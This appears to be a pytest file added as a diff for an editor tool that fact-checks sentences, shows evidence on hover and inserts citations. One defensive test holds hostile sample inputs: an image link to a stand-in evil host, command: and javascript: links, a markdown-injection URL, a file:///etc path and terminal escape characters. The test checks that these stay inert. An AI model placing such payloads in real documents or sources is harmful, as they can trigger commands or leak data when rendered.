@@ -1,0 +1,325 @@
+"""Research in the editor: verdicts as notes, evidence on hover, citations that land where they belong."""
+
+from __future__ import annotations
+
+import asyncio
+from dataclasses import replace
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from copydesk.core.aims import Aim
+from copydesk.core.evidence import Source
+from copydesk.errors import SettingsError
+from harness.editor import NEOVIM, VSCODE, Editor, RefusedRequest
+from harness.scripted import ARCHIVE, MemorySources, ScriptedDesk, services
+
+if TYPE_CHECKING:
+    from conftest import Connect
+    from harness.editor import Personality
+
+URI = "file:///work/post.md"
+TRUE = "The mill at Lund dates from 1790."
+FALSE = "The mill has nine wheels."
+TEXT = f"# Mills\n\n{TRUE} {FALSE}\n\n## Roads\n\nThe road is 12 miles long. Is it old?\n"
+
+
+async def start(
+    connect: Connect, personality: Personality = VSCODE, desk: ScriptedDesk | None = None, text: str = TEXT, **more: Any
+) -> Editor:
+    editor = (await connect(personality, services(desk or ScriptedDesk(), **more))).editor
+    await editor.initialize()
+    editor.open(URI, text)
+    return editor
+
+
+async def research(editor: Editor, words: str, **more: Any) -> None:
+    place = editor.place(URI, words)
+    await editor.command("copydesk.researchClaim", uri=URI, **({"position": place["start"]} | more))
+
+
+async def verdicts(editor: Editor, *codes: str) -> list[dict[str, Any]]:
+    def shown() -> list[dict[str, Any]]:
+        notes = editor.diagnostics.get(URI, [])
+        return notes if sorted(note["code"] for note in notes) == sorted(codes) else []
+
+    found: list[dict[str, Any]] = await editor.until(shown)
+    return found
+
+
+async def test_a_verdict_is_a_note_on_the_sentence(connect: Connect, personality: Personality) -> None:
+    editor = await start(connect, personality)
+    await research(editor, TRUE)
+    (note,) = await verdicts(editor, "CD504")
+    assert editor.quoted(URI, note["range"]) == TRUE
+    assert note["severity"] == 4
+    assert "“The mill was built in 1790.” (Mills of *Lund*)" in note["message"]
+    await research(editor, FALSE)
+    notes = await verdicts(editor, "CD501", "CD504")
+    assert [editor.quoted(URI, one["range"]) for one in notes] == [TRUE, FALSE]
+
+
+async def test_a_selection_is_researched_as_it_is(connect: Connect) -> None:
+    desk = ScriptedDesk()
+    editor = await start(connect, desk=desk)
+    place = editor.place(URI, "mill at Lund dates")
+    await editor.command("copydesk.researchClaim", uri=URI, range=place)
+    await editor.ended(1)
+    assert desk.asked == ["mill at Lund dates"]
+
+
+async def test_a_section_is_one_job_that_streams_its_verdicts(connect: Connect) -> None:
+    desk = ScriptedDesk()
+    editor = await start(connect, desk=desk)
+    place = editor.place(URI, "The road")["start"]
+    await editor.command("copydesk.researchSection", uri=URI, position=place)
+    await verdicts(editor, "CD505")
+    await editor.ended(1)
+    assert desk.asked == ["The road is 12 miles long."]
+    await editor.command("copydesk.researchSection", uri=URI)
+    await verdicts(editor, "CD501", "CD504", "CD505")
+
+
+async def test_research_is_cancelled_with_what_was_found_kept(connect: Connect) -> None:
+    desk = ScriptedDesk(step=asyncio.Semaphore(1))
+    editor = await start(connect, desk=desk)
+    answer = await editor.command("copydesk.researchSection", uri=URI)
+    await verdicts(editor, "CD504")
+    await editor.until(lambda: len(desk.asked) == 2)
+    assert await editor.command("copydesk.cancel", jobId=answer["jobId"]) == {"cancelled": 1}
+    await asyncio.wait_for(desk.cut.wait(), 5)
+    assert [one["code"] for one in editor.diagnostics[URI]] == ["CD504"]
+
+
+async def test_research_again_replaces_the_verdict(connect: Connect) -> None:
+    desk = ScriptedDesk()
+    editor = await start(connect, desk=desk)
+    await research(editor, TRUE)
+    (note,) = await verdicts(editor, "CD504")
+    desk.archive = replace(ARCHIVE, text=ARCHIVE.text.replace("The mill was built", "The mill was there"))
+    await editor.command("copydesk.researchNote", noteId=note["data"]["id"])
+    await editor.ended(2)
+    (again,) = await verdicts(editor, "CD504")
+    assert again["data"] != note["data"]
+
+
+async def test_a_critique_does_not_take_verdicts_away(connect: Connect) -> None:
+    editor = await start(connect)
+    await research(editor, FALSE)
+    await verdicts(editor, "CD501")
+    await editor.command("copydesk.critiqueDocument", uri=URI)
+    await editor.ended(2)
+    await verdicts(editor, "CD501")
+
+
+async def test_what_cannot_be_checked_is_said_and_not_noted(connect: Connect) -> None:
+    editor = await start(connect)
+    await research(editor, "Is it old?")
+    await editor.until(lambda: "There is nothing to check. It is a question." in editor.said)
+    assert editor.diagnostics.get(URI, []) == []
+    await research(editor, "# Mills")
+    await editor.until(lambda: "There is no sentence here that could be looked up." in editor.said)
+
+
+async def test_the_verdict_stays_with_its_sentence_while_the_writer_types(connect: Connect) -> None:
+    desk = ScriptedDesk(step=asyncio.Semaphore(0))
+    editor = await start(connect, desk=desk)
+    await research(editor, FALSE)
+    await asyncio.wait_for(desk.reached.wait(), 5)
+    editor.insert(URI, 0, "A line on top.\n\n")
+    desk.step.release()  # type: ignore[union-attr]
+    await verdicts(editor, "CD501")
+    await editor.until(lambda: editor.quoted(URI, editor.diagnostics[URI][0]["range"]) == FALSE)
+
+
+async def test_search_that_is_not_set_up_is_said_with_the_next_step(connect: Connect) -> None:
+    desk = ScriptedDesk(crash=SettingsError("There is no search provider named x.", "Name a known one."))
+    editor = await start(connect, desk=desk)
+    await research(editor, TRUE)
+    await editor.until(lambda: "There is no search provider named x. Name a known one." in editor.said)
+
+
+START = {"line": 0, "character": 0}
+
+
+@pytest.mark.parametrize("more", [{"position": None}, {"range": {"start": START, "end": START}}])
+async def test_research_needs_a_position_or_a_range(connect: Connect, more: dict[str, Any]) -> None:
+    editor = await start(connect)
+    with pytest.raises(RefusedRequest, match="either a position or a range"):
+        await research(editor, TRUE, **more)
+
+
+async def actions(editor: Editor, words: str) -> dict[str, dict[str, Any]]:
+    return await editor.actions(URI, words)
+
+
+async def test_the_actions_of_verdicts(connect: Connect, personality: Personality) -> None:
+    editor = await start(connect, personality)
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    await research(editor, FALSE)
+    await verdicts(editor, "CD501", "CD504")
+    assert [title for title in await actions(editor, TRUE) if not title.startswith("Dismiss")] == [
+        "Cite: Mills of *Lund*",
+        "Open source: Mills of *Lund*",
+        "Research again",
+        "Why this note? (CD504)",
+    ]
+    assert [title for title in await actions(editor, FALSE) if not title.startswith("Dismiss")] == [
+        "Correct the sentence from the evidence",
+        "Weaken the claim",
+        "Open source: Mills of *Lund*",
+        "Research again",
+        "Why this note? (CD501)",
+    ]
+
+
+async def run(editor: Editor, words: str, title: str) -> Any:
+    command = (await actions(editor, words))[title]["command"]
+    return await editor.request(
+        "workspace/executeCommand", {"command": command["command"], "arguments": command["arguments"]}
+    )
+
+
+async def test_a_citation_is_one_edit_of_two_places_and_one_undo(connect: Connect, personality: Personality) -> None:
+    store = MemorySources()
+    editor = await start(connect, personality, sources=store)
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    assert await run(editor, TRUE, "Cite: Mills of *Lund*") == {"applied": True}
+    text = editor.buffers[URI].text
+    assert f"{TRUE}[^mills-of-lund] {FALSE}" in text
+    assert text.endswith(
+        "\n\n[^mills-of-lund]: “The mill was built in 1790.” [Mills of \\*Lund\\*](https://example.org/mills), "
+        "retrieved 2026-05-01.\n"
+    )
+    assert editor.buffers[URI].undo == [TEXT]
+    await editor.until(lambda: store.pinned == [ARCHIVE])
+    assert await run(editor, TRUE, "Cite: Mills of *Lund*") == {"applied": False}
+    assert "The sentence has this citation already." in editor.said
+    assert editor.buffers[URI].text == text
+
+
+async def test_a_citation_can_be_a_link(connect: Connect) -> None:
+    editor = await start(connect)
+    editor.settings = {"citationStyle": "link"}
+    editor.notify("workspace/didChangeConfiguration", {"settings": None})
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    assert await run(editor, TRUE, "Cite: Mills of *Lund*") == {"applied": True}
+    assert "dates from 1790 ([Mills of \\*Lund\\*](https://example.org/mills))." in editor.buffers[URI].text
+
+
+async def test_R1_a_citation_that_loses_the_race_is_not_made(connect: Connect) -> None:
+    editor = await start(connect, NEOVIM)
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    command = (await actions(editor, TRUE))["Cite: Mills of *Lund*"]["command"]
+    editor.insert(URI, 0, "typed ")
+    asked = asyncio.create_task(
+        editor.request("workspace/executeCommand", {"command": command["command"], "arguments": command["arguments"]})
+    )
+    editor.insert(URI, 0, "more ")
+    answer = await asked
+    text = editor.buffers[URI].text
+    plain = "more typed " + TEXT
+    assert text == plain or (answer["applied"] and text.startswith("more typed # Mills") and "[^mills-of-lund]" in text)
+
+
+async def test_a_sentence_is_corrected_from_the_evidence_and_only_then(connect: Connect) -> None:
+    desk = ScriptedDesk(words="The mill has four wheels.")
+    editor = await start(connect, desk=desk)
+    await research(editor, FALSE)
+    await verdicts(editor, "CD501")
+    await run(editor, FALSE, "Correct the sentence from the evidence")
+    await editor.ended(2)
+    await run(editor, FALSE, "Weaken the claim")
+    await editor.ended(3)
+    assert desk.aims == [Aim.CORRECT, Aim.WEAKEN]
+    assert await run(editor, FALSE, "Accept rewrite: The mill has four wheels.") == {"applied": True}
+    assert "The mill has four wheels." in editor.buffers[URI].text
+    await research(editor, "The road")
+    (note,) = await verdicts(editor, "CD505")
+    with pytest.raises(RefusedRequest, match="No source says anything"):
+        await editor.command("copydesk.rewriteNote", noteId=note["data"]["id"], aim="correct")
+
+
+async def test_hover_shows_the_evidence_with_its_date_and_no_markup_of_the_page(
+    connect: Connect, personality: Personality
+) -> None:
+    editor = await start(connect, personality)
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    place = editor.place(URI, TRUE)["start"]
+    hover = await editor.request("textDocument/hover", {"textDocument": {"uri": URI}, "position": place})
+    shown = hover["contents"]["value"]
+    assert "The mill was built in 1790" in shown.replace("\\", "")
+    assert "[Mills of \\*Lund\\*](https://example.org/mills)" in shown
+    assert "read 2026-05-01" in shown
+    assert "scripted" in shown
+    assert "the verdict is computed" in shown
+
+
+HOSTILE = "![p](https://evil.example/?d=1) [x](command:evil) <img src=x> \x1b[31m\u202e"
+
+
+@pytest.mark.parametrize(
+    "url", ["command:evil", "javascript:alert(1)", "https://a.example/)[x](command:evil)", "file:///etc/x"]
+)
+async def test_R27_hostile_titles_and_addresses_stay_text(connect: Connect, url: str) -> None:
+    page = replace(ARCHIVE, source=Source(HOSTILE, url, "2026-05-01T12:00:00Z", ARCHIVE.source.sha256))
+    editor = await start(connect, desk=ScriptedDesk(archive=page))
+    await research(editor, TRUE)
+    (note,) = await verdicts(editor, "CD504")
+    assert not {"\x1b", "\u202e"} & set(str(note))
+    place = editor.place(URI, TRUE)["start"]
+    hover = await editor.request("textDocument/hover", {"textDocument": {"uri": URI}, "position": place})
+    shown = hover["contents"]["value"]
+    assert "](command:" not in shown.replace("\\]", "")
+    assert "![" not in shown.replace("\\!\\[", "").replace("\\!", "")
+    assert "<img" not in shown.replace("\\<", "")
+    titles = await actions(editor, TRUE)
+    assert not any("](" in title or "\x1b" in title for title in titles)
+    assert not any("](" in sentence for sentence in editor.said)
+
+
+async def test_evidence_in_a_local_file_is_related_information(connect: Connect) -> None:
+    page = replace(ARCHIVE, source=replace(ARCHIVE.source, url="file:///work/notes/mills.md"))
+    editor = await start(connect, desk=ScriptedDesk(archive=page))
+    await research(editor, TRUE)
+    (note,) = await verdicts(editor, "CD504")
+    ((related,),) = [note["relatedInformation"]]
+    assert related["location"]["uri"] == "file:///work/notes/mills.md"
+    assert related["location"]["range"] == {"start": {"line": 2, "character": 0}, "end": {"line": 2, "character": 27}}
+    assert related["message"] == "Supports: “The mill was built in 1790.” (Mills of *Lund*)"
+    opened: list[Any] = []
+
+    async def show(params: Any) -> Any:
+        opened.append(params)
+        return {"success": True}
+
+    editor.answers["window/showDocument"] = show
+    assert await run(editor, TRUE, "Open source: Mills of *Lund*") == {"opened": True}
+    assert opened[0]["selection"] == related["location"]["range"]
+
+
+async def test_a_web_source_opens_outside_and_nothing_else_does(connect: Connect) -> None:
+    opened: list[Any] = []
+
+    async def show(params: Any) -> Any:
+        opened.append(params)
+        return {"success": True}
+
+    editor = await start(connect)
+    editor.answers["window/showDocument"] = show
+    await research(editor, TRUE)
+    await verdicts(editor, "CD504")
+    assert await run(editor, TRUE, "Open source: Mills of *Lund*") == {"opened": True}
+    assert (opened[0]["uri"], opened[0]["external"]) == ("https://example.org/mills", True)
+    bad = replace(ARCHIVE, source=replace(ARCHIVE.source, url="command:evil"))
+    other = await start(connect, desk=ScriptedDesk(archive=bad))
+    other.answers["window/showDocument"] = show
+    await research(other, TRUE)
+    await verdicts(other, "CD504")
+    assert await run(other, TRUE, "Open source: Mills of *Lund*") == {"opened": False}
+    assert len(opened) == 1
